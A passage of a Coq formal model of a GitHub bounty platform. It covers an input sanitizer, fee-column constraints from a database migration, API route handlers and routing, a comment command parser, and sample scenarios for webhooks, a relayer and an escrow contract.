          if is_line_terminator x then None
          else match lazy_close rest with
               | Some n => Some (S n)
               | None => None
               end
      end
  end.

(** [/<script[^>]*>.*?<\/script>/i] *)
Definition script_match (s : jsString) : option nat :=
  match starts_with_ci (codes "<script") s with
  | Some afterName =>
      match up_to_gt afterName with
      | Some (n1, afterOpen) =>
          match lazy_close afterOpen with
          | Some n2 => Some (7 + n1 + n2)%nat
          | None => None
          end
      | None => None
      end
  | None => None
  end.

(** ** [String.prototype.trim] *)

(** White space and line terminators of ECMAScript. *)
Definition is_trimmed (c : N) : bool :=
  ((9 <=? c) && (c <=? 13)) || (c =? 32) || (c =? 160) || (c =? 5760)
  || ((8192 <=? c) && (c <=? 8202)) || (c =? 8232) || (c =? 8233)
  || (c =? 8239) || (c =? 8287) || (c =? 12288) || (c =? 65279).

Definition trim (s : jsString) : jsString :=
  rev (drop_while is_trimmed (rev (drop_while is_trimmed s))).

(** ** The sanitizer *)

Inductive Context : Type := markdown | log | db | all.

(** The [options] argument; an absent key takes its default. *)
Record Options : Type := mkOptions {
  maxLength : option Z;
  allowNewlines : option bool;
  context : option Context
}.

Definition noOptions : Options :=
  {| maxLength := None; allowNewlines := None; context := None |}.

Definition in_log_context (c : Context) : bool :=
  match c with all | log => true | _ => false end.

Definition in_markdown_context (c : Context) : bool :=
  match c with all | markdown => true | _ => false end.

(** The three replacements of shell sequences. *)
Definition escapeShell (s : jsString) : jsString :=
  replace_pair 36 123 (codes "\${")
    (replace_pair 36 40 (codes "\$(")
       (replace_unit 96 (codes "\`") s)).

(** [.replace(/</g, '&lt;').replace(/>/g, '&gt;')] *)
Definition escapeHtml (s : jsString) : jsString :=
  replace_unit 62 (codes "&gt;") (replace_unit 60 (codes "&lt;") s).

(** [.replace(/<script[^>]*>.*?<\/script>/gi, '[removed script tag]')] *)
Definition removeScriptTags (s : jsString) : jsString :=
  replace_matches script_match (codes "[removed script tag]") O s.

(** The replacements on control characters. *)
Definition escapeControl (allowNewlines : bool) (s : jsString) : jsString :=
  let s1 := replace_unit 0 [] s in
  let s2 := if negb allowNewlines
            then replace_unit 13 (codes "\r") (replace_unit 10 (codes "\n") s1)
            else s1 in
  replace_matches ansi_match [] O s2.

(** [sanitizeUserInput(input, options)]; [input] is [None] for [null] and
    [undefined]. *)
Definition sanitizeUserInput (input : option jsString) (options : Options)
  : jsString :=
  match input with
  | None | Some [] => []
  | Some input =>
      let maxLength := default 10000%Z (maxLength options) in
      let allowNewlines := default true (allowNewlines options) in
      let context := default all (context options) in
      let s0 := firstn (Z.to_nat maxLength) input in
      let s1 := if in_log_context context then escapeShell s0 else s0 in
      let s2 := if in_markdown_context context
                then removeScriptTags (escapeHtml s1) else s1 in
      let s3 := if in_log_context context
                then escapeControl allowNewlines s2 else s2 in
      trim s3
  end.

(** The fields of an issue the function rewrites; the others are copied. *)
Record Issue (Other : Type) : Type := mkIssue {
  title : option jsString;
  body : option jsString;
  otherFields : Other
}.
Arguments mkIssue {Other} title body otherFields.
Arguments title {Other} i.
Arguments body {Other} i.
Arguments otherFields {Other} i.

Definition truthy (s : option jsString) : bool :=
  match s with
  | None | Some [] => false
  | Some _ => true
  end.

(** [sanitizeGitHubIssue(issue)] *)
Definition sanitizeGitHubIssue {Other : Type} (issue : Issue Other) : Issue Other :=
  {| title := if truthy (title issue)
              then Some (sanitizeUserInput (title issue)
                           {| maxLength := Some 500%Z;
                              allowNewlines := Some false;
                              context := Some all |})
              else Some [];
     body := if truthy (body issue)
             then Some (sanitizeUserInput (body issue)
                          {| maxLength := Some 10000%Z;
                             allowNewlines := Some true;
                             context := Some all |})
             else None;
     otherFields := otherFields issue |}.

(** A code unit none of the replacements looks for. *)
Definition plain (c : N) : Prop :=
  c <> 0 /\ c <> 10 /\ c <> 13 /\ c <> 27 /\ c <> 36 /\ c <> 60 /\ c <> 62 /\ c <> 96.

End Sanitizer.

(* ===================================================================== *)
(** * The fee columns and their CHECK constraints (migration 0023) *)
(* ===================================================================== *)

Module FeeMigration.

Local Open Scope Q_scope.

(** [ROUND(x, 8)] on [numeric]: the nearest multiple of 10^-8, a tie
    going away from zero. *)
Definition ROUND8 (x : Q) : Q :=
  let scaled := x * inject_Z 100000000 in
  inject_Z (if Qle_bool 0 scaled then Qfloor (scaled + (1 # 2))
            else (- Qfloor (- scaled + (1 # 2)))%Z)
  / inject_Z 100000000.

Definition Qlt_bool (x y : Q) : bool := negb (Qle_bool y x).

(** The amount and the fee columns of a row of [community_bounties],
    all [DECIMAL(18, 8)]. *)
Record FeeColumns : Type := mkFeeColumns {
  amount : Q;
  base_bounty_amount : Q;
  client_fee_amount : Q;
  contributor_fee_amount : Q;
  total_platform_fee : Q;
  total_paid_by_client : Q
}.

(** The [UPDATE ... SET ... WHERE base_bounty_amount IS NULL] of
    migration 0023 on a row with the given amount. *)
Definition backfill (amount : Q) : FeeColumns :=
  {| amount := amount;
     base_bounty_amount := amount;
     client_fee_amount := ROUND8 (amount * (25 # 1000));
     contributor_fee_amount := ROUND8 (amount * (25 # 1000));
     total_platform_fee := ROUND8 (amount * (5 # 100));
     total_paid_by_client := amount + ROUND8 (amount * (25 # 1000)) |}.

(** The CHECK constraints migration 0023 adds after the backfill. *)
Definition check_base_amount_positive (r : FeeColumns) : bool :=
  Qlt_bool 0 (base_bounty_amount r).

Definition check_client_fee_is_2_5_percent (r : FeeColumns) : bool :=
  Qeq_bool (client_fee_amount r) (ROUND8 (base_bounty_amount r * (25 # 1000))).

Definition check_contributor_fee_is_2_5_percent (r : FeeColumns) : bool :=
  Qeq_bool (contributor_fee_amount r) (ROUND8 (base_bounty_amount r * (25 # 1000))).

Definition check_total_fee_equals_sum (r : FeeColumns) : bool :=
  Qeq_bool (total_platform_fee r) (client_fee_amount r + contributor_fee_amount r).

Definition check_total_paid_equals_base_plus_client_fee (r : FeeColumns) : bool :=
  Qeq_bool (total_paid_by_client r) (base_bounty_amount r + client_fee_amount r).

Definition fee_constraints (r : FeeColumns) : bool :=
  check_base_amount_positive r
  && check_client_fee_is_2_5_percent r
  && check_contributor_fee_is_2_5_percent r
  && check_total_fee_equals_sum r
  && check_total_paid_equals_base_plus_client_fee r.

(** A [DECIMAL(18, 8)] value given by its count of units of 10^-8. *)
Definition decimal8 (n : Z) : Q := inject_Z n / inject_Z 100000000.

(** The fee columns of a bounty row that holds the decimal breakdown. *)
Definition fee_columns (f : DecimalFees.FeeBreakdown) : FeeColumns :=
  {| amount := DecimalFees.baseBountyAmount f;
     base_bounty_amount := DecimalFees.baseBountyAmount f;
     client_fee_amount := DecimalFees.clientFeeAmount f;
     contributor_fee_amount := DecimalFees.contributorFeeAmount f;
     total_platform_fee := DecimalFees.totalPlatformFee f;
     total_paid_by_client := DecimalFees.totalPaidByClient f |}.

End FeeMigration.

(* ===================================================================== *)
(** * parseInt and Array.prototype.slice *)
(* ===================================================================== *)

Module JsLib.

(** The white space [parseInt] skips, among the code units below 256. *)
Definition is_white_space (c : ascii) : bool :=
  let n := nat_of_ascii c in
  ((9 <=? n) && (n <=? 13))%nat || (n =? 32)%nat || (n =? 160)%nat.

(** The value of a digit in the given radix (10 or 16). *)
Definition digit_value (radix : Z) (c : ascii) : option Z :=
  let n := Z.of_nat (nat_of_ascii c) in
  let v := if (48 <=? n) && (n <=? 57) then Some (n - 48)
           else if (97 <=? n) && (n <=? 102) then Some (n - 87)
           else if (65 <=? n) && (n <=? 70) then Some (n - 55)
           else None in
  match v with
  | Some d => if d <? radix then Some d else None
  | None => None
  end.

(** The digits at the start of [s], read in the radix: the value so far
    and whether any digit was seen. *)
Fixpoint read_digits (radix : Z) (acc : Z) (seen : bool) (s : string) : option Z :=
  match s with
  | String c rest =>
      match digit_value radix c with
      | Some d => read_digits radix (acc * radix + d) true rest
      | None => if seen then Some acc else None
      end
  | EmptyString => if seen then Some acc else None
  end.

Fixpoint skip_white_space (s : string) : string :=
  match s with
  | String c rest => if is_white_space c then skip_white_space rest else s
  | EmptyString => s
  end.

(** [parseInt(s)] without a radix; [None] is [NaN].  Leading white space
    is skipped, a sign is read, [0x] or [0X] selects radix 16, and the
    longest run of digits gives the value; what follows is ignored.  The
    value is exact here; a JavaScript number holds it exactly up to 2^53. *)
Definition parseInt (s : string) : option Z :=
  let s1 := skip_white_space s in
  let '(sign, s2) :=
    match s1 with
    | String "-" rest => (-1, rest)
    | String "+" rest => (1, rest)
    | _ => (1, s1)
    end in
  let '(radix, s3) :=
    match s2 with
    | String "0" (String "x" rest) => (16, rest)
    | String "0" (String "X" rest) => (16, rest)
    | _ => (10, s2)
    end in
  match read_digits radix 0 false s3 with
  | Some v => Some (sign * v)
  | None => None
  end.

(** [x || d] for a number that may be [NaN]: [NaN] and 0 are falsy. *)
Definition number_or (x : option Z) (d : Z) : Z :=
  match x with
  | Some v => if v =? 0 then d else v
  | None => d
  end.

(** The index [slice] starts or ends at: a negative argument counts from
    the end, and the result is clamped to the array. *)
Definition relative_index (len k : Z) : Z :=
  if k <? 0 then Z.max (len + k) 0 else Z.min k len.

(** [array.slice(start, end)] *)
Definition slice {A : Type} (start end_ : Z) (l : list A) : list A :=
  let len := Z.of_nat (length l) in
  let from := relative_index len start in
  let to := relative_index len end_ in
  firstn (Z.to_nat (to - from)) (skipn (Z.to_nat from) l).

(** [s.split('/')] *)
Fixpoint split_slash_go (s : string) (current : string) : list string :=
  match s with
  | EmptyString => [current]
  | String c rest =>
      if Ascii.eqb c "/" then current :: split_slash_go rest ""
      else split_slash_go rest (current ++ String c "")
  end.

Definition split_slash (s : string) : list string := split_slash_go s "".

End JsLib.

(* ===================================================================== *)
(** * GET /api/community-bounties and GET /api/community-bounties/:id *)
(* ===================================================================== *)

Module ListRoute.
Import BountyStore.

(** A row as the list route reads it: the bounty and the column
    [created_by_github_username]. *)
Record Listed : Type := mkListed {
  bounty : CommunityBounty;
  createdByGithubUsername : string
}.

(** [req.query]: each parameter is a string or absent. *)
Record Query : Type := mkQuery {
  q_status : option string;
  q_currency : option string;
  q_repo : option string;
  q_creator : option string;
  q_limit : option string;
  q_offset : option string
}.

Definition noQuery : Query :=
  {| q_status := None; q_currency := None; q_repo := None; q_creator := None;
     q_limit := None; q_offset := None |}.

(** The [filters] object; a key is set when its parameter is truthy. *)
Record Filters : Type := mkFilters {
  f_status : option string;
  f_currency : option string;
  f_createdByGithubUsername : option string;
  f_repo : option (string * string)     (* githubRepoOwner, githubRepoName *)
}.

Definition truthy_string (s : option string) : option string :=
  match s with
  | Some "" | None => None
  | Some s' => Some s'
  end.

(** [const [owner, name] = repo.split('/'); if (owner && name) ...] *)
Definition repo_filter (repo : option string) : option (string * string) :=
  match truthy_string repo with
  | None => None
  | Some r =>
      match JsLib.split_slash r with
      | owner :: name :: _ =>
          if String.eqb owner "" || String.eqb name "" then None
          else Some (owner, name)
      | _ => None
      end
  end.

Definition filters_of (q : Query) : Filters :=
  {| f_status := truthy_string (q_status q);
     f_currency := truthy_string (q_currency q);
     f_createdByGithubUsername := truthy_string (q_creator q);
     f_repo := repo_filter (q_repo q) |}.

(** Whether a row passes all the filters that are set. *)
Definition passes (f : Filters) (b : Listed) : bool :=
  match f_status f with
  | Some s => String.eqb (status_name (status (bounty b))) s
  | None => true
  end
  && match f_currency f with
     | Some c => String.eqb (currency (bounty b)) c
     | None => true
     end
  && match f_repo f with
     | Some (owner, name) =>
         String.eqb (githubRepoOwner (bounty b)) owner
         && String.eqb (githubRepoName (bounty b)) name
     | None => true
     end
  && match f_createdByGithubUsername f with
     | Some u => String.eqb (createdByGithubUsername b) u
     | None => true
     end.

(** The successive [filter] calls of the handler. *)
Definition apply_filters (f : Filters) (allBounties : list Listed) : list Listed :=
  let l1 := match f_status f with
            | Some s => List.filter (fun b => String.eqb (status_name (status (bounty b))) s)
                          allBounties
            | None => allBounties
            end in
  let l2 := match f_currency f with
            | Some c => List.filter (fun b => String.eqb (currency (bounty b)) c) l1
            | None => l1
            end in
  let l3 := match f_repo f with
            | Some (owner, name) =>
                List.filter (fun b => String.eqb (githubRepoOwner (bounty b)) owner
                                      && String.eqb (githubRepoName (bounty b)) name) l2
            | None => l2
            end in
  match f_createdByGithubUsername f with
  | Some u => List.filter (fun b => String.eqb (createdByGithubUsername b) u) l3
  | None => l3
  end.

(** [Math.min(parseInt(limit) || 20, 100)], [limit] defaulting to '20'. *)
Definition limitNum (q : Query) : Z :=
  Z.min (JsLib.number_or (JsLib.parseInt (default "20"%string (q_limit q))) 20) 100.

(** [parseInt(offset) || 0], [offset] defaulting to '0'. *)
Definition offsetNum (q : Query) : Z :=
  JsLib.number_or (JsLib.parseInt (default "0"%string (q_offset q))) 0.

Record Response : Type := mkResponse {
  bounties : list Listed;
  total : Z;
  limit : Z;
  offset : Z
}.

(** The handler of [GET /api/community-bounties]; [allBounties] is what
    [storage.getActiveCommunityBounties()] returned. *)
Definition listBounties (allBounties : list Listed) (q : Query) : Response :=
  let filteredBounties := apply_filters (filters_of q) allBounties in
  {| bounties := JsLib.slice (offsetNum q) (offsetNum q + limitNum q) filteredBounties;
     total := Z.of_nat (length filteredBounties);
     limit := limitNum q;
     offset := offsetNum q |}.

End ListRoute.

Module GetRoute.
Import BountyStore.

Inductive Response : Type :=
  | Error (statusCode : Z) (error : string)
  | Found (bounty : CommunityBounty).               (* 200 *)

(** The handler of [GET /api/community-bounties/:id]; [id] is
    [req.params.id]. *)
Definition getBounty (id : string) (db : Store) : Response :=
  match JsLib.parseInt id with
  | None => Error 400 "Invalid bounty ID"
  | Some bountyId =>
      match getCommunityBounty bountyId db with
      | None => Error 404 "Bounty not found"
      | Some bounty => Found bounty
      end
  end.

End GetRoute.

(* ===================================================================== *)
(** * The routes of the community bounty router, in the order registered *)
(* ===================================================================== *)

Module Router.

Inductive Method : Type := GET | POST.

#[export] Instance Method_eq_dec : EqDecision Method.
Proof. solve_decision. Defined.

(** A segment of a route path: a literal or a named parameter. *)
Inductive Segment : Type :=
  | Lit (text : string)
  | Param (name : string).

Inductive Handler : Type :=
  | CreateBounty | PayBounty | ClaimBounty
  | ListBounties | GetBounty | Leaderboard.

(** [router.post(...)] and [router.get(...)] of the file, top to bottom. *)
Definition routes : list (Method * list Segment * Handler) :=
  [ (POST, [Lit "api"; Lit "community-bounties"], CreateBounty);
    (POST, [Lit "api"; Lit "community-bounties"; Param "id"; Lit "pay"], PayBounty);
    (POST, [Lit "api"; Lit "community-bounties"; Param "id"; Lit "claim"], ClaimBounty);
    (GET, [Lit "api"; Lit "community-bounties"], ListBounties);
    (GET, [Lit "api"; Lit "community-bounties"; Param "id"], GetBounty);
    (GET, [Lit "api"; Lit "community-bounties"; Lit "leaderboard"], Leaderboard) ]%string.

Definition lower (c : ascii) : ascii :=
  let n := nat_of_ascii c in
  if ((65 <=? n) && (n <=? 90))%nat then ascii_of_nat (n + 32) else c.

Fixpoint lower_string (s : string) : string :=
  match s with
  | EmptyString => EmptyString
  | String c rest => String (lower c) (lower_string rest)
  end.

(** Routing is not case sensitive (the router is created with the
    default options). *)
Definition same_text (a b : string) : bool :=
  String.eqb (lower_string a) (lower_string b).

(** The parameters bound when the segments of a path match a route: a
    literal matches itself, a parameter any segment that is not empty. *)
Fixpoint match_segments (pattern : list Segment) (path : list string)
  : option (list (string * string)) :=
  match pattern, path with
  | [], [] => Some []
  | Lit text :: pattern', seg :: path' =>
      if same_text text seg then match_segments pattern' path' else None
  | Param name :: pattern', seg :: path' =>
      if String.eqb seg "" then None
      else match match_segments pattern' path' with
           | Some params => Some ((name, seg) :: params)
           | None => None
           end
  | _, _ => None
  end.

(** The segments of a request path: what stands between the slashes
    after the leading one; one trailing slash is allowed (the router is
    not strict). *)
Definition segments (path : string) : option (list string) :=
  match JsLib.split_slash path with
  | EmptyString :: segs =>
      match rev segs with
      | EmptyString :: init => Some (rev init)
      | _ => Some segs
      end
  | _ => None
  end.

(** The first route, in the order registered, whose method and path
    match: its handler answers the request and no handler of the file
    passes it on. *)
Fixpoint first_match (rs : list (Method * list Segment * Handler)) (m : Method)
    (segs : list string) : option (Handler * list (string * string)) :=
  match rs with
  | [] => None
  | (m', pattern, h) :: rest =>
      if bool_decide (m' = m)
      then match match_segments pattern segs with
           | Some params => Some (h, params)
           | None => first_match rest m segs
           end
      else first_match rest m segs
  end.

Definition dispatch (m : Method) (path : string)
  : option (Handler * list (string * string)) :=
  match segments path with
  | Some segs => first_match routes m segs
  | None => None
  end.

(** The path of the leaderboard route. *)
Definition leaderboardPattern : list Segment :=
  [Lit "api"; Lit "community-bounties"; Lit "leaderboard"]%string.

End Router.

(* ===================================================================== *)
(** * Comment command parser *)
(* ===================================================================== *)

Module CommandParser.

Inductive Currency : Type := XDC | ROXN | USDC.

(** [BountyCommand]: the tagged command the parser produces. *)
Inductive BountyCommand : Type :=
  | pool_allocate (amount : string) (currency : Currency)
  | community_create (amount : string) (currency : Currency)
  | community_claim (prNumber : Z)
  | status
  | request.

Definition currency_name (c : Currency) : string :=
  match c with
  | XDC => "XDC"
  | ROXN => "ROXN"
  | USDC => "USDC"
  end.

Definition is_digit (c : ascii) : bool :=
  (48 <=? nat_of_ascii c)%nat && (nat_of_ascii c <=? 57)%nat.

Definition is_space (c : ascii) : bool :=
  (nat_of_ascii c =? 32)%nat || (nat_of_ascii c =? 9)%nat
  || (nat_of_ascii c =? 10)%nat || (nat_of_ascii c =? 13)%nat.

(** The words of a text, separated by white space. *)
Fixpoint words_go (cs acc : list ascii) : list (list ascii) :=
  match cs with
  | [] => match acc with [] => [] | _ => [rev acc] end
  | c :: cs' =>
      if is_space c
      then match acc with
           | [] => words_go cs' []
           | _ => rev acc :: words_go cs' []
           end
      else words_go cs' (c :: acc)
  end.

Definition words (text : string) : list string :=
  map string_of_list_ascii (words_go (list_ascii_of_string text) []).

(** The part before the first dot, and the part after it if there is a dot. *)
Fixpoint split_dot (cs : list ascii) : list ascii * option (list ascii) :=
  match cs with
  | [] => ([], None)
  | c :: cs' =>
      if (nat_of_ascii c =? 46)%nat then ([], Some cs')
      else let '(i, f) := split_dot cs' in (c :: i, f)
  end.

Definition all_digits (cs : list ascii) : bool := forallb is_digit cs.

(** The amount pattern of the creation schema,
    [/^\d+(\.\d{1,8})?$/]: digits, then optionally a dot and one to eight
    digits. *)
Definition matches_amount_pattern (a : string) : bool :=
  let '(i, f) := split_dot (list_ascii_of_string a) in
  negb (length i =? 0)%nat && all_digits i
  && match f with
     | None => true
     | Some fr => (1 <=? length fr)%nat && (length fr <=? 8)%nat && all_digits fr
     end.

Definition digits_value (cs : list ascii) : Z :=
  fold_left (fun acc c => acc * 10 + (Z.of_nat (nat_of_ascii c) - 48)) cs 0.

(** The number a decimal string denotes. *)
Definition amount_value (a : string) : Q :=
  let '(i, f) := split_dot (list_ascii_of_string a) in
  match f with
  | None => inject_Z (digits_value i)
  | Some fr =>
      (inject_Z (digits_value i)
       + inject_Z (digits_value fr) / inject_Z (10 ^ Z.of_nat (length fr)))%Q
  end.

Definition minAmount : Q := 1.
Definition maxAmount : Q := inject_Z 1000000.

Definition amount_in_bounds (a : string) : bool :=
  match Qlt_le_dec (amount_value a) minAmount with
  | left _ => false
  | right _ =>
      match Qlt_le_dec maxAmount (amount_value a) with
      | left _ => false
      | right _ => true
      end
  end.

Definition valid_amount (a : string) : bool :=
  matches_amount_pattern a && amount_in_bounds a.

(** One of the three tokens, upper case only. *)
Definition parse_currency (tok : string) : option Currency :=
  if String.eqb tok "XDC" then Some XDC
  else if String.eqb tok "ROXN" then Some ROXN
  else if String.eqb tok "USDC" then Some USDC
  else None.

(** [#123] or [123]. *)
Definition parse_pr (tok : string) : option Z :=
  let cs := match list_ascii_of_string tok with
            | c :: cs' => if (nat_of_ascii c =? 35)%nat then cs' else c :: cs'
            | [] => []
            end in
  if negb (length cs =? 0)%nat && all_digits cs then Some (digits_value cs)
  else None.

Definition amount_and_currency (mk : string -> Currency -> BountyCommand)
    (a tok : string) : option BountyCommand :=
  if valid_amount a then
    match parse_currency tok with
    | Some c => Some (mk a c)
    | None => None
    end
  else None.

(** Modelled from the spec: [parseBountyCommand] of [server/github.ts],
    which is not part of the sources.  [parse(commentText)] returns a
    command or nothing, trying the patterns in this order: claim with a
    PR number, status mention, pool-scoped bounty creation, bare bounty
    creation, bare request.  An amount must match the fixed-precision
    decimal pattern (at most eight fractional digits) and lie between 1 and
    10^6; a currency must be one of the three tokens in upper case.  The
    command surface is [/claim #<pr>], [@roxonn status],
    [/bounty pool <amount> <currency>], [/bounty <amount> <currency>] and
    [/bounty]. *)
Definition parseBountyCommand (commentText : string) : option BountyCommand :=
  match words commentText with
  | [w1; w2] =>
      if String.eqb w1 "/claim" then
        match parse_pr w2 with
        | Some n => Some (community_claim n)
        | None => None
        end
      else if String.eqb w1 "@roxonn" && String.eqb w2 "status" then Some status
      else None
  | [w1; w2; w3; w4] =>
      if String.eqb w1 "/bounty" && String.eqb w2 "pool"
      then amount_and_currency pool_allocate w3 w4
      else None
  | [w1; w2; w3] =>
      if String.eqb w1 "/bounty" then amount_and_currency community_create w2 w3
      else None
  | [w1] => if String.eqb w1 "/bounty" then Some request else None
  | _ => None
  end.

End CommandParser.

(* ===================================================================== *)
(** * Sample data *)
(* ===================================================================== *)

Module Scenarios.
Import BountyStore.

Definition alice : User :=
  {| userId := 10; githubUsername := Some "alice"%string;
     xdcWalletAddress := Some "xdc00a1"%string |}.

Definition bob : User :=
  {| userId := 11; githubUsername := Some "bob"%string;
     xdcWalletAddress := Some "xdc00b2"%string |}.

Definition carol : User :=
  {| userId := 12; githubUsername := Some "carol"%string;
     xdcWalletAddress := Some "xdc00c3"%string |}.

(** A bounty of 100 XDC created by carol, not yet paid. *)
Definition newBounty (bountyId : Z) (owner name : string) (issueNo : Z)
  : CommunityBounty :=
  {| id := bountyId; githubRepoOwner := owner; githubRepoName := name;
     githubIssueNumber := issueNo; githubInstallationId := Some "55"%string;
     creatorUserId := Some 12; amount := 100%Q; currency := "XDC";
     baseBountyAmount := Some 100%Q; clientFeeAmount := Some (25 # 10)%Q;
     contributorFeeAmount := Some (25 # 10)%Q;
     totalPaidByClient := Some (1025 # 10)%Q; expiresAt := None;
     status := pending_payment; paymentStatus := "pending";
     paymentMethod := None; escrowTxHash := None; escrowDepositedAt := None;
     blockchainBountyId := None; claimedByUserId := None;
     claimedByGithubUsername := None; claimedPrNumber := None;
     claimedPrUrl := None; claimedAt := None; payoutTxHash := None;
     payoutExecutedAt := None; payoutRecipientAddress := None |}.

Definition fundedBounty (bountyId : Z) (owner name : string) (issueNo onChain : Z)
  : CommunityBounty :=
  set_funding "0xescrow" 1000 onChain (newBounty bountyId owner name issueNo).

Definition claimedBounty (bountyId : Z) (owner name : string) (issueNo onChain : Z)
    (claimer : User) (pr at_ : Z) : CommunityBounty :=
  set_claim (userId claimer) (Js.or_else (githubUsername claimer) "") pr None at_
    (fundedBounty bountyId owner name issueNo onChain).

Definition storeOf (rows : list CommunityBounty) : Store :=
  {| communityBounties := list_to_map (map (fun b => (id b, b)) rows);
     users := [alice; bob; carol];
     payouts := ∅;
     webhookDeliveries := ∅ |}.

(** One bounty waiting for payment. *)
Definition pendingStore : Store := storeOf [newBounty 1 "acme" "api" 7].

(** One funded bounty. *)
Definition fundedStore : Store := storeOf [fundedBounty 1 "acme" "api" 7 101].

(** One bounty claimed by alice. *)
Definition claimedStore : Store :=
  storeOf [claimedBounty 1 "acme" "api" 7 101 alice 12 2000].

(** Two claimed bounties on the same issue number of two repositories,
    [acme-labs/api] and [acme/labs-api]. *)
Definition twoReposStore : Store :=
  storeOf [claimedBounty 1 "acme-labs" "api" 7 101 alice 12 2000;
           claimedBounty 2 "acme" "labs-api" 7 102 bob 3 2500].

(** The processing times of sixteen claimed bounties, each handled
    instantly. *)
Definition sixteen : list Z := repeat 0 16.

(** A redelivery of a closed issue, signed. *)
Definition issueClosed : Webhook.Request :=
  {| Webhook.x_github_event := "issues";
     Webhook.x_hub_signature_256 := Some "sha256=0f3a"%string;
     Webhook.x_github_delivery := "72d3162e-cc78-11e3-81ab-4c9367dc0958";
     Webhook.signature_verifies := true;
     Webhook.payload := {| Webhook.action := Some "closed"%string; Webhook.installation_id := Some 55;
                   Webhook.repository_id := Some 1296269; Webhook.comment_body := None;
                   Webhook.pull_request_merged := false |} |}.

Definition noCommands : string -> option unit := fun _ => None.

Definition afterFirstDelivery : Store :=
  snd (fst (Webhook.handleGitHubAppWebhook unit noCommands DbUp 1000 issueClosed
              fundedStore)).

(** The chain client of the pay route: every call returns a hash. *)
Definition ledgerReturns (receipt : PayRoute.ReceiptStatus)
  : PayRoute.CreateCall -> PayRoute.CreateOutcome :=
  fun _ => PayRoute.CreateReturns "0xdead" 101 receipt.

Definition ledgerThrows : PayRoute.CreateCall -> PayRoute.CreateOutcome :=
  fun _ => PayRoute.CreateThrows "insufficient funds for gas".

(** A relayer run in which GitHub confirms every merge and the chain
    accepts every completion. *)
Definition allGood : Relayer.Env :=
  {| Relayer.verifyPRMergedAndClosesIssue := fun _ => Relayer.VerifyReturns true None;
     Relayer.completeCommunityBounty := fun _ => Relayer.CompleteReturns "0xpaid" 77;
     Relayer.payoutIo := DbUp;
     Relayer.completionIo := DbUp;
     Relayer.now := 5000 |}.

(** The same, but the last update of the bounty row throws. *)
Definition lastUpdateThrows : Relayer.Env :=
  {| Relayer.verifyPRMergedAndClosesIssue := fun _ => Relayer.VerifyReturns true None;
     Relayer.completeCommunityBounty := fun _ => Relayer.CompleteReturns "0xpaid" 77;
     Relayer.payoutIo := DbUp;
     Relayer.completionIo := DbThrows "Connection terminated unexpectedly";
     Relayer.now := 5000 |}.

(** GitHub cannot be reached. *)
Definition githubDown : Relayer.Env :=
  {| Relayer.verifyPRMergedAndClosesIssue :=
       fun _ => Relayer.VerifyThrows "connect ETIMEDOUT";
     Relayer.completeCommunityBounty := fun _ => Relayer.CompleteReturns "0xpaid" 77;
     Relayer.payoutIo := DbUp;
     Relayer.completionIo := DbUp;
     Relayer.now := 5000 |}.

(** GitHub answers that the PR is not merged. *)
Definition notMerged : Relayer.Env :=
  {| Relayer.verifyPRMergedAndClosesIssue :=
       fun _ => Relayer.VerifyReturns false (Some "PR is not merged"%string);
     Relayer.completeCommunityBounty := fun _ => Relayer.CompleteReturns "0xpaid" 77;
     Relayer.payoutIo := DbUp;
     Relayer.completionIo := DbUp;
     Relayer.now := 5000 |}.

(** GitHub refuses the verifier's request for the time being, and the
    verifier reports it in its result. *)
Definition rateLimited : Relayer.Env :=
  {| Relayer.verifyPRMergedAndClosesIssue :=
       fun _ => Relayer.VerifyReturns false (Some "API rate limit exceeded"%string);
     Relayer.completeCommunityBounty := fun _ => Relayer.CompleteReturns "0xpaid" 77;
     Relayer.payoutIo := DbUp;
     Relayer.completionIo := DbUp;
     Relayer.now := 5000 |}.

(** The chain has completed the bounty before and rejects a second
    completion. *)
Definition chainRejects : Relayer.Env :=
  {| Relayer.verifyPRMergedAndClosesIssue := fun _ => Relayer.VerifyReturns true None;
     Relayer.completeCommunityBounty :=
       fun _ => Relayer.CompleteThrows "execution reverted: Bounty not active";
     Relayer.payoutIo := DbUp;
     Relayer.completionIo := DbUp;
     Relayer.now := 35000 |}.

Definition worldOf (db : Store) : Relayer.World :=
  {| Relayer.store := db; Relayer.ledgerCalls := [] |}.

(** The first sweep works through sixteen claimed bounties, each verified
    and paid instantly; every later sweep finds nothing to do. *)
Definition sixteenThenIdle (k : nat) : Scheduler.Workload :=
  match k with
  | O => {| Scheduler.fetchMs := 0; Scheduler.processMs := sixteen |}
  | S _ => {| Scheduler.fetchMs := 0; Scheduler.processMs := [] |}
  end.

(** An escrow contract deployed at address 900: relayer 777, fee collector
    888; carol (address 303) deposits 102.5 XDC, the total paid for a base
    of 100, as bounty 1.  Every other account is externally owned and
    takes transfers. *)
Definition deployedEscrow : Escrow.State :=
  {| Escrow.initialized := false; Escrow.this := 900; Escrow.owner := 0;
     Escrow.relayer := 0; Escrow.feeCollector := 0;
     Escrow.platformFeeRate := 0; Escrow.contributorFeeRate := 0;
     Escrow.bounties := ∅; Escrow.nextBountyId := 0;
     Escrow.balances :=
       Escrow.credit Escrow.XDC 303 200000000000000000000 ∅;
     Escrow.allowances := ∅;
     Escrow.acceptsTransfer := fun _ a => negb (a =? 900) |}.

Definition initializedEscrow : Escrow.State :=
  match Escrow.initialize
          {| Escrow.sender := 1; Escrow.value := 0; Escrow.timestamp := 100 |}
          500 501 777 888 deployedEscrow with
  | Escrow.Return s => s
  | Escrow.Revert _ => deployedEscrow
  end.

Definition escrowWithBounty : Escrow.State :=
  match Escrow.createBounty
          {| Escrow.sender := 303; Escrow.value := 102500000000000000000;
             Escrow.timestamp := 200 |}
          102500000000000000000 Escrow.XDC 0 initializedEscrow with
  | Escrow.Return (_, s, _) => s
  | Escrow.Revert _ => initializedEscrow
  end.

(** The same contract holding a USDC bounty of 1.03525 USDC (1035250
    units of 10^-6), the total paid for a base of 1.01. *)
Definition escrowWithUsdcBounty : Escrow.State :=
  let funded :=
    {| Escrow.initialized := Escrow.initialized initializedEscrow;
       Escrow.this := 900; Escrow.owner := Escrow.owner initializedEscrow;
       Escrow.relayer := Escrow.relayer initializedEscrow;
       Escrow.feeCollector := Escrow.feeCollector initializedEscrow;
       Escrow.platformFeeRate := Escrow.platformFeeRate initializedEscrow;
       Escrow.contributorFeeRate := Escrow.contributorFeeRate initializedEscrow;
       Escrow.bounties := ∅; Escrow.nextBountyId := 1;
       Escrow.balances := Escrow.credit Escrow.USDC 303 5000000 ∅;
       Escrow.allowances := Escrow.credit Escrow.USDC 303 5000000 ∅;
       Escrow.acceptsTransfer := Escrow.acceptsTransfer initializedEscrow |} in
  match Escrow.createBounty
